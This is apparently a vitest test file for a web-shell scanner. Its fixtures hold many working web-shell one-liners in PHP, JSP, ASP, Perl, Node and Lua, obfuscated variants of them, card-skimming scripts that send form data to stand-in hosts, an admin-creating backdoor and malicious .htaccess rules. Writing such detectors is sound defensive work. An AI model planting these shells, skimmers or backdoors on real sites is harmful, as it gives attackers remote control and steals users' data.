import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { pagesPacked } from '../../source/checks/web-archive.ts';
import { webShells } from '../../source/checks/web-shells.ts';
import { hostPath, type Entry } from '../../source/host/host.ts';
import { searchRedirects } from '../../source/parsers/rewrite-signs.ts';
import { readZip } from '../../source/parsers/archives/zip.ts';
import { judgeWebCode } from '../../source/parsers/web-code.ts';
import { zipOf } from '../support/archives.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { byPath } from '../support/by-path.ts';
import { sweep, sweptFile } from '../support/sweep-host.ts';

const ask = (machine: Machine) => byPath(sweep(webShells, memoryHost(machine)));
const score = (code: string) => judgeWebCode('php', code).score;

describe('web code', () => {
	test.each([
		"<?php eval($_POST['x']); ?>", '<?php @eval(base64_decode($_REQUEST["z"]));', '<?php system($_GET["cmd"]);', '<?php passthru("ls " . $_GET[0]);', '<?=`$_GET[0]`?>', "<?php $_GET['a']($_GET['b']);", '<?php assert($_COOKIE["k"]);',
		'<?php $c = $_REQUEST["c"]; echo "<pre>"; echo shell_exec($c); system($c);', '<?php preg_replace("/.*/e", $_POST["p"], "");', "<?php eval/**/($_POST['x']);", '<?php // ?><?php eval($_POST[1]);', '<?php eval(file_get_contents("php://input"));',
		"<?php call_user_func($_GET['f'], $_GET['a']);", '<?php eval(gzinflate(base64_decode("abc")));', "<?php $f = $_GET['f']; $g = $_GET['g']; $f($g); system($g);", '<?php eval(stripslashes($_POST["q"]));', '<?php array_map($_POST["a"], (array)$_POST["b"]);', '<?php usort($a, $_GET["f"]); eval(base64_decode("x"));',
		'<?php $f = base64_decode("c3lzdGVt"); if (isset($_POST["a"])) { $f($_POST["a"]); }', "<?php $d = file_get_contents('php://input'); $o = ''; for ($i = 0; $i < strlen($d); $i++) $o .= $d[$i] ^ $k[$i % 8]; eval($o);",
	])('%s is a web shell', code => {
		expect(score(code)).toBeGreaterThanOrEqual(6);
	});
	test.each([
		"<?php if (isset($_GET['page'])) { $page = (int) $_GET['page']; } echo esc_html($page);", '<?php $data = base64_decode($encoded); return unserialize($data);', "<?php $this->exec($_POST['x']); $db->exec($sql); Foo::system($_GET['a']);", '<?php // never eval($_POST["x"]) as web shells do\n echo 1;',
		"<?php /**\n * system($_GET['cmd']) is what an attacker writes\n */ function f() { return $_SERVER['HTTP_HOST']; }", "<?php call_user_func(array($this, $method), $_POST);", "<?php $callback = $_GET['callback']; echo preg_replace('/[^a-z]/', '', $callback) . '(' . $json . ')';",
		"<?php include dirname(__FILE__) . '/header.php'; require_once ABSPATH . 'wp-load.php';", "<?php do_action('wp_ajax_' . $_REQUEST['action']);", "<?php $output = shell_exec('git rev-parse HEAD');", "<?php exec( $command, $out ); $name = $_POST['name'];",
		"<?php move_uploaded_file($_FILES['f']['tmp_name'], $target);", "<?php file_put_contents($cache, $html); $x = $_GET['y'];",
	])('%s is everyday code', code => {
		expect(score(code)).toBeLessThan(3);
	});
	test('other languages', () => {
		expect(judgeWebCode('jsp', '<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>').score).toBeGreaterThanOrEqual(6);
		expect(judgeWebCode('asp', '<%eval request("x")%>').score).toBeGreaterThanOrEqual(6);
		expect(judgeWebCode('aspx', '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>').score).toBeGreaterThanOrEqual(6);
		expect(judgeWebCode('perl', '#!/usr/bin/perl\nuse CGI;\nprint `@{[param("c")]}`; system(param("c"));\n').score).toBeGreaterThanOrEqual(6);
		expect(judgeWebCode('shell', '#!/bin/sh\necho\neval "$QUERY_STRING"\n').score).toBeGreaterThanOrEqual(6);
		expect(judgeWebCode('python', '#!/usr/bin/python3\nimport cgi, os\nform = cgi.FieldStorage()\ncmd = form.getvalue("c")\nos.system(cmd)\n').score).toBeGreaterThanOrEqual(5);
		expect(judgeWebCode('jsp', '<% java.io.InputStream i=new ProcessBuilder(request.getParameter("c").split(" ")).start().getInputStream(); %>').score).toBeGreaterThanOrEqual(6);
		expect(judgeWebCode('php', "<?php $f=$_REQUEST['f']??'';$f&&$f($_REQUEST['a']);").score).toBeGreaterThanOrEqual(5);
		expect(judgeWebCode('php', '<?php $a="as"."se"."rt";$b="\\x5f\\x50\\x4f\\x53\\x54";$a(${$b}["k"]);').score).toBeGreaterThanOrEqual(6);
		expect(judgeWebCode('php', "<?php $f = $_GET['f']; function g(&$f) { return $f; }").score).toBe(0);
		expect(judgeWebCode('node', "module.exports=(a)=>a.get('/h',(q,r)=>require('child_process').exec(q.query.x,(e,o)=>r.send(o)));").score).toBeGreaterThanOrEqual(6);
		expect(judgeWebCode('node', "const { exec } = require('child_process'); app.get('/', (q, r) => exec('uptime', (e, o) => r.send(o + q.query.x)));").score).toBe(0);
		expect(judgeWebCode('php', '<?php if(isset($_POST["x"])){$t=base64_decode($_POST["x"]);file_put_contents($_POST["f"],$t);} ?>').score).toBeGreaterThanOrEqual(3 + 1);
		expect(judgeWebCode('jsp', '<%= request.getParameter("name") %>').score).toBe(0);
	});
	test('code of Node that runs what the request sends, by whatever name', () => {
		expect(judgeWebCode('node', "require('http').createServer((q, s) => { const u = new URL(q.url, 'http://x'); require('child_process').exec(u.searchParams.get('c'), (e, o) => s.end(o)); });").score).toBeGreaterThanOrEqual(6);
		expect(judgeWebCode('node', "const q = new URL(req.url, base).searchParams.get('q'); res.end(escape(q)); exec('uptime', done);").score).toBe(0);
	});
	test('a page that keeps whatever it is sent', () => {
		expect(score("<?php move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']); ?>")).toBe(3);
		expect(score("<?php require 'auth.php'; move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']); ?>")).toBe(0);
		expect(score("<?php $ext = pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION); if (in_array($ext, ['png'])) move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']); ?>")).toBe(0);
	});
	test('a shell script that runs the query', () => {
		expect(judgeWebCode('shell', '#!/bin/bash\nx=${QUERY_STRING//+/ }; eval "$(printf %b "${x//%/\\\\x}")" 2>&1\n').score).toBeGreaterThanOrEqual(6);
		expect(judgeWebCode('shell', '#!/bin/bash\nq=$QUERY_STRING\necho "$q"\n').score).toBe(0);
	});
	test('the line is told', () => {
		expect(judgeWebCode('php', "<?php\n\n\nsystem($_GET['c']);").signs[0]).toMatchObject({ line: 4 });
	});
	test('any bytes come to an end', () => {
		const pieces = fc.array(fc.constantFrom('<?php ', 'eval(', '$_POST', "['a']", '(', ')', ';', '\n', '/*', '*/', '//', 'base64_decode(', '$a=', '$a', "'a'.", '`', 'system(', 'request', 'exec', '\\x41', 'chr(1).', '\0', '\xff'), { maxLength: 200 });
		fc.assert(fc.property(pieces, fc.constantFrom('php', 'jsp', 'asp', 'perl', 'python', 'shell') as fc.Arbitrary<'php'>, (parts, language) => void judgeWebCode(language, parts.join(''))));
	});
	test('a long file of near misses takes no time worth a word', () => {
		for (const piece of ['eval(', '$_POST[', '$a=$_POST;', "'a'.", 'request exec ', 'Runtime.getRuntime().exec(', 'a'.repeat(50)]) {
			for (const language of ['php', 'jsp', 'asp', 'perl'] as const) expect(judgeWebCode(language, piece.repeat(200_000 / piece.length)).score).toBeLessThan(20);
		}
	}, 60_000);
});

test('over a tree: by language, place and name', () => {
	expect(
		ask({
			'/var/www/html/index.php': "<?php get_header(); echo $_GET['s'];", '/var/www/html/wp-content/uploads/2024/x.php': '<?php @eval($_POST["p"]);', '/var/www/html/logo.jpg': 'GIF89a<?php system($_GET["c"]);', '/var/www/cgi-bin/t': { content: '#!/bin/sh\neval "$QUERY_STRING"\n', mode: 0o755 },
			'/home/ann/site/a.php': '<?php passthru($_GET["x"]);', '/usr/share/phpmyadmin/x.php': '<?php eval($_POST["p"]);', '/var/lib/dpkg/info/p.list': '/usr/share/phpmyadmin/x.php\n', '/var/www/html/.htaccess': 'RewriteEngine On\nAddType application/x-httpd-php .jpg\n',
			'/var/www/b/.htaccess': 'php_value auto_prepend_file /var/www/b/wordfence-waf.php\n', '/var/www/b/p.html': '<html>', '/var/www/html/.user.ini': "auto_prepend_file = '/tmp/.x.php'\n",
		}),
	).toEqual([
		'high /home/ann/site/a.php', 'low /var/www/b/.htaccess', 'high /var/www/cgi-bin/t', 'high /var/www/html/.htaccess', 'high /var/www/html/.user.ini', 'high /var/www/html/logo.jpg', 'high /var/www/html/wp-content/uploads/2024/x.php',
	]);
});

test.each<[string, string, string]>([
	['a replacement that evaluates', '/var/www/a/5.php', "<?php mb_ereg_replace('.*', $_POST['x'], '', 'e');"],
	['a page that is a picture', '/var/www/a/h.php', "<?php\n@include dirname(__FILE__) . '/img/logo.png';\n"],
	['code kept in a picture', '/var/www/a/g.php', "<?php $e=exif_read_data('img/a.jpg'); eval($e['Artist']);"],
	['a page of /tmp', '/var/www/a/f.php', "<?php if(isset($_GET['d'])) { include('/tmp/.cache/s'); }\n"],
	['an administrator made by a page', '/var/www/a/w.php', "<?php if (md5($_GET['bd']) == '34d1') { $u = wp_create_user('wpadmin', 'pass'); $user = new WP_User($u); $user->set_role('administrator'); }\n"],
	['names made of shifted letters', '/var/www/a/b.php', "<?php $f='';foreach(str_split('rxrsdl') as $c)$f.=chr(ord($c)+1);$f($_GET['q']);"],
	['the request by way of a session', '/var/www/a/c.php', "<?php session_start();$_SESSION['a']=$_POST['a'];include('/var/lib/php/sessions/sess_'.session_id());"],
	['an upload without a question', '/var/www/a/u.php', "<?php if($_FILES)copy($_FILES['f']['tmp_name'],$_FILES['f']['name']);"],
	['a web service', '/var/www/a/c.asmx', '<%@ WebService Language="C#" Class="S" %>\n[WebMethod] public string R(string c) { return Process.Start("cmd.exe", "/c " + c).ToString(); }\n'],
	['a page in the language of expressions', '/var/lib/tomcat9/webapps/ROOT/c.jsp', '${"".getClass().forName("java.lang.Runtime").getMethod("exec","".getClass())}'],
	['a page in Lua', '/srv/www/w/cgi-bin/s.lua', '#!/usr/bin/lua\nlocal h = io.popen(os.getenv("QUERY_STRING"))\n'],
	['an .htaccess that is the page itself', '/var/www/a/.htaccess', 'AddType application/x-httpd-php .htaccess\n#<?php system($_GET["c"]); ?>\n'],
	['a script that sends away what is typed', '/var/www/a/checkout.js', "f.addEventListener('submit',()=>{new Image().src='https://203.0.113.9/i.gif?d='+btoa(d);});\n"],
	['a function of letters given a header', '/var/www/a/session.inc.php', "<?php\n$s = array('s','y','m','e','t'); $f = $s[0].$s[1].$s[0].$s[4].$s[3].$s[2];\n$h = getallheaders(); if (isset($h['X-Id'])) { $f(strrev($h['X-Id'])); }\n"],
	['words in codes, given the request', '/var/www/a/nav.php', '<?php ${"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}["\\x61"]="\\x63\\x61";$x=${"\\x47\\x4c\\x4f\\x42\\x41\\x4c\\x53"}["\\x61"];if(!empty($_POST["\\x70"]))$x($_POST["\\x70"],$_POST["\\x61"]);'],
	['a pattern in a variable that evaluates', '/var/www/a/f.phtml', "<?php $p='/.*/e';@preg_replace($p,$_POST['fa'],'');"],
	['a page for search engines alone', '/var/www/a/i.php', "<?php if(preg_match('/googlebot|bingbot/i',$_SERVER['HTTP_USER_AGENT'])){echo @file_get_contents('http://seo.example/z.php?d='.$_SERVER['HTTP_HOST']);exit;} ?>\n<?php require 'blog.php';\n"],
	['a page that evaluates in decoded form', '/var/www/a/e.aspx', '<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.Item["o"])),"unsafe");%>'],
	['a counter that runs the query', '/var/www/a/c.pl', '#!/usr/bin/perl\nprint "\\n\\n"; my $q=$ENV{QUERY_STRING}; $q=~s/%([0-9a-f]{2})/chr hex $1/gei; print `$q 2>&1`;\n'],
	['pictures of one name as code', '/var/www/a/.htaccess', '<FilesMatch "logo_small\\.gif$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n'],
	['cards sent away as a picture', '/var/www/shop/js/vendor.min.js', 'd.addEventListener("submit",function(){var o={};/cc|card|cvv|exp/i.test(e.name)&&(o[e.name]=e.value);(new Image).src="https://fonts.example/i.gif?d="+btoa(JSON.stringify(o))},!0)'],
	['functions named by a header', '/srv/www/shop/l.php5', "<?php $a=$_SERVER; $k='HTTP_X_FN'; isset($a[$k]) && print_r(array_map($a[$k],(array)base64_decode($a['HTTP_X_ARG'])));"],
	['a cookie that is decrypted and run', '/srv/www/shop/vendor/autoload.php', "<?php\nif (isset($_COOKIE['u'])) { $z = openssl_decrypt($_COOKIE['u'], 'aes-128-cbc', 'k'); if ($z) { (function($c){ eval($c); })($z); exit; } }\n"],
	['a page that asks for passwords of others', '/var/www/a/next.php', "<?php $m=$_POST['login'].$_POST['passwd'];\n@mail('box@mail.example','O365',$m); header('Location: https://login.example/');"],
	['Python that runs a header', '/srv/api/app/trace.py', "import subprocess\nclass T:\n    def __call__(self, env, start):\n        return [subprocess.getoutput(env.get('HTTP_X_ARG', 'id')).encode()]\n"],
	['a page that evaluates by an engine of scripts', '/opt/c/pages/n.jspx', '<jsp:scriptlet>String p=request.getHeader("X");Object s=new javax.script.ScriptEngineManager().getEngineByName("js").eval(new String(p));</jsp:scriptlet>'],
	['stolen lines as a picture', '/var/www/a/media/ph.jpg', 'Y2NfbnVtYmVyPTQ1MzIwMTUxMTI4MzAzNjEmY2NfY2lkPTEyMSZleHA9\nY2NfbnVtYmVyPTQ1MzIwMTUxMTI4MzAzNjEmY2NfY2lkPTEyMSZleHA9\n'],
	['an archive as a style', '/var/www/a/bundle.css', 'PK\x03\x04\x14\x00abc'],
	['a page somebody signed', '/var/www/a/index.html', '<html><head><title>Hacked by Mallory</title></head></html>\n'],
])('%s', (_name, path, text) => {
	expect(sweep(webShells, memoryHost({ [path]: text })).filter(({ severity }) => !/^(?:info|low)$/.test(severity))).toHaveLength(1);
});

test('SQL names between back quotes, and row[kind](row[size]) in a string, were called a web shell', () => {
	expect(score('<?php $table = $_GET["t"]; $row = $_POST; query("SELECT * FROM `$table` WHERE 1"); $sql .= "\\nPARTITION BY $row[by]($row[size])"; # a \'quote\n')).toBeLessThan(3);
	expect(score('<?php $n = $_GET["n"]; $x = "<?xml version=\'1.0\'?>"; $sql = "SELECT (`$n`)";')).toBeLessThan(3);
	expect(score('<?php $c = $_GET["c"]; echo "it\'s"; echo `$c`;')).toBeGreaterThanOrEqual(6);
});

test('a compiled program for requests', () => {
	expect(ask({ '/usr/lib/cgi-bin/status': { mode: 0o755, content: '\x7fELF\x02\x01\x01' }, '/usr/lib/cgi-bin/own': { mode: 0o755, content: '\x7fELF\x02\x01\x01' }, '/var/lib/dpkg/info/p.list': '/usr/lib/cgi-bin/own\n' })).toEqual(['medium /usr/lib/cgi-bin/status']);
});

test('words in pieces', () => {
	expect(score('<?php $k="ass"."ert"; $k(${"_PO"."ST"}["z"]);')).toBeGreaterThanOrEqual(6);
	expect(score("<?php $f = str_replace('x', '', 'sxyxsxtxexm'); $f($_POST['c']);")).toBeGreaterThanOrEqual(5);
	expect(score("<?php $sql = 'select ' . 'a'; $x = str_replace('-', '', $y); echo $_GET['a'];")).toBeLessThan(3);
});

test.each([
	['/var/www/a.php', '<?php usort($_POST,"assert");'],
	['/var/www/a.php', '<?php $f=create_function("",$_POST["c"]);$f();'],
	['/var/www/a.php', '<?php $r=new ReflectionFunction($_GET["f"]);$r->invoke($_GET["a"]);'],
	['/var/www/a.php', '<?php eval(file_get_contents("http://203.0.113.9/a.txt"));'],
	['/var/www/a.php', '<?php $f=hex2bin("73797374656d");$f($_COOKIE["c"]);'],
	['/var/www/a.php', '<?php $a=chr(115).chr(121).chr(115).chr(116);$a($_SERVER["HTTP_X"]);'],
	['/var/www/a.php', '<?php @include "\\x2fvar\\x2fwww\\x2fb\\x6cog.ico";'],
	['/var/www/a.shtml', '<!--#exec cmd="$QUERY_STRING_UNESCAPED" -->'],
	['/var/www/a.cfm', '<cfexecute name="#url.c#" timeout="5"></cfexecute>'],
	['/srv/www/a.rb', 'require "sinatra"\nget("/y") { `#{params[:c]}` }\n'],
])('a shell seldom looked for: %s %s', (path, content) => {
	expect(sweep(webShells, memoryHost({ [path]: content })).map(({ severity }) => severity)).toEqual(['high']);
});

test.each([
	['/var/www/a.php', '<?php usort($items, "compare_by_name"); array_map("trim", $_POST); $f = base64_decode($x); echo $f;'],
	['/var/www/a.php', '<?php include "templates/logo.php"; $data = file_get_contents("https://api.example.org/x"); json_decode($data);'],
	['/var/www/a.shtml', '<!--#include virtual="/header.html" --><!--#exec cgi="/cgi-bin/counter" -->'],
	['/srv/www/a.rb', 'get("/y") { User.find(params[:id]).name }\nsystem("git", "pull")\n'],
	['/var/www/a.cfm', '<cfquery name="q">select 1</cfquery><cfexecute name="/usr/bin/convert" arguments="a b"></cfexecute>'],
])('and what is no shell: %s %s', (path, content) => {
	expect(sweep(webShells, memoryHost({ [path]: content })).filter(({ severity }) => !/^(?:info|low)$/.test(severity))).toEqual([]);
});

const led = (rules: string, path = '/var/www/html/.htaccess') => sweep(webShells, memoryHost({ [path]: `RewriteEngine On\n${rules}` })).map(({ severity }) => severity);
test.each([
	['RewriteCond %{HTTP_REFERER} .*google.* [OR]\nRewriteCond %{HTTP_REFERER} .*bing.*\nRewriteRule ^(.*)$ http://pills.example.net/in.cgi?2 [R=301,L]\n', 'medium'],
	['RewriteCond %{HTTP_USER_AGENT} (googlebot|bingbot|yandex) [NC]\nRewriteRule ^ https://casino.example.net/%{REQUEST_URI} [P,L]\n', 'medium'],
	['RewriteCond "%{HTTP_REFERER}" "(google|yahoo)" [NC]\nRewriteRule .* http://203.0.113.9/t [L]\n', 'high'],
])('search engines led elsewhere: %s', (rules, severity) => {
	expect(led(rules)).toEqual([severity]);
});

test.each([
	'RewriteCond %{HTTP_REFERER} !^$\nRewriteCond %{HTTP_REFERER} !google\\. [NC]\nRewriteRule ^ https://www.example.net/hotlink [R]\n',
	'RewriteCond %{HTTP_REFERER} images\\.google [NC]\nRewriteRule \\.(jpe?g|png)$ https://gallery.example.net/ [R]\n',
	'RewriteCond %{HTTP_USER_AGENT} (baidu|yandex) [NC]\nRewriteRule .* - [F,L]\n',
	'RewriteCond %{HTTP_USER_AGENT} googlebot|bingbot [NC]\nRewriteRule ^(.*)$ http://service.prerender.io/https://example.org/$1 [P,L]\n',
	'RewriteCond %{HTTP_USER_AGENT} googlebot\nRewriteRule ^(.*)$ /static/$1 [L]\nRewriteRule ^old$ https://new.example.net/ [R=301]\n',
	'RewriteCond %{HTTP_HOST} ^example\\.org$ [NC]\nRewriteCond %{HTTP_USER_AGENT} googlebot\nRewriteRule ^(.*)$ https://www.example.org/$1 [R=301,L]\n',
	'RewriteCond %{HTTP_USER_AGENT} googlebot\nRewriteRule ^(.*)$ https://%{HTTP_HOST}/$1 [R=301,L]\n',
	'RewriteCond %{HTTP_USER_AGENT} googlebot\nRewriteRule ^(.*)$ http://127.0.0.1:3000/$1 [P]\n',
	'# RewriteCond %{HTTP_REFERER} google\nRewriteRule ^ https://www.example.net/ [R=301]\n',
])('what sites write about them: %s', rules => {
	expect(led(rules)).toEqual([]);
});

test('any rules are taken', () => {
	fc.assert(fc.property(fc.array(fc.constantFrom('RewriteCond ', '%{HTTP_REFERER} ', '%{HTTP_USER_AGENT} ', '%{HTTP_HOST} ', 'google', '!', '"', '\n', 'RewriteRule ', '^ ', 'http://', 'a.example', '[', '\\', '\0')), words => void searchRedirects(words.join(''), '/var/www')));
});

test('a site that is led to its own name', () => {
	expect(led('RewriteCond %{HTTP_USER_AGENT} googlebot\nRewriteRule ^ https://www.example.net/ [R=301]\n', '/var/www/example.net/.htaccess')).toEqual([]);
});

test('every file of a folder of pictures as code, and settings of hosters that are none', () => {
	const told = (path: string, text: string) => sweep(webShells, memoryHost({ [path]: text })).map(({ severity }) => severity);
	expect(told('/var/www/html/img/.htaccess', 'SetHandler application/x-httpd-php\n')).toEqual(['high']);
	expect(told('/var/www/html/img/.htaccess', '<FilesMatch "\\.php$">\nSetHandler application/x-httpd-php\n</FilesMatch>\n')).toEqual([]);
	expect(told('/var/www/html/.htaccess', '<IfModule mime_module>\n  AddHandler application/x-httpd-ea-php81 .php .php8 .phtml\n</IfModule>\n')).toEqual([]);
});

describe('an archive of a servlet container', () => {
	const shell = '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>';
	const pages = { 'WEB-INF/web.xml': '<web-app/>', 'index.jsp': '<html><%= application.getServerInfo() %></html>', 'img/s.jsp': shell };

	test('a shell in it is named with the page, and nothing of an honest one', () => {
		const path = '/var/lib/tomcat9/webapps/status.war';
		expect(sweep(webShells, memoryHost({ [path]: zipOf(pages) }))).toMatchObject([{ severity: 'high', subject: { path }, summary: expect.stringMatching(/^In img\/s\.jsp inside it: JSP that/), facts: { member: 'img/s.jsp' } }]);
		expect(sweep(webShells, memoryHost({ [path]: zipOf({ ...pages, 'img/s.jsp': 'x' }) }))).toEqual([]);
	});

	test('one that is cut, and a bomb, are gaps', () => {
		const whole = zipOf(pages);
		for (const bytes of [whole.subarray(0, -30), zipOf({ 'a.jsp': '\0'.repeat(3_000_000) })]) {
			const path = hostPath('/srv/a.war');
			const host = memoryHost({ [path]: bytes });
			const entry = host.look(path);
			const gaps: string[] = [];
			const file = { ...sweptFile(host, path, entry.ok ? entry.value : ({} as Entry)), passOver: (reason: string) => void gaps.push(reason) };
			expect([...pagesPacked(file)]).toEqual([]);
			expect(gaps).toEqual(['damaged']);
		}
	});

	test('any bytes are taken', () => {
		fc.assert(
			fc.property(fc.uint8Array({ maxLength: 40 }), fc.nat({ max: 400 }), (bytes, at) => {
				const altered = Buffer.from(zipOf(pages));
				altered.set(bytes.subarray(0, Math.max(0, altered.length - at)), Math.min(at, altered.length));
				void readZip(altered);
				void readZip(bytes);
			}),
		);
	});
});
